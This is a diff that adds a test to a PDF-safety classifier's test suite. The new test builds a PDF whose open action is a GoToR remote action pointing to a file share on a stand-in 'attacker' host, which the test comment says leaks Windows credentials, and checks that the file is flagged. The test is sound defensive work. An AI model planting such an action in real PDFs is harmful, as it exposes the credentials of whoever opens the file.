@@ -48,6 +48,14 @@ describe('judgePdf against parser differentials', () => {
     expect(await judgePdf(Buffer.from(patched, 'latin1'))).toBe('pdf_script');
   });
 
+  it('refuses an open action that goes to a file on another host, which leaks Windows credentials', async () => {
+    const pdf = handWritten(
+      [[1, PAGES[0]!], [2, PAGES[1]!], [3, PAGES[2]!], [4, '<< /Type /Action /S /GoToR /F (\\\\attacker\\share\\x.pdf) /D [0 /Fit] >>']],
+      (_n, offsets) => offsets[0]!,
+    );
+    expect(await judgePdf(pdf)).toBe('pdf_script');
+  });
+
   it('keeps the honest files: a plain table, object streams, and an incremental update', async () => {
     const original = await testPdf();
     const root = /\/Root (\d+ \d+ R)/.exec(original.toString('latin1'))![1];
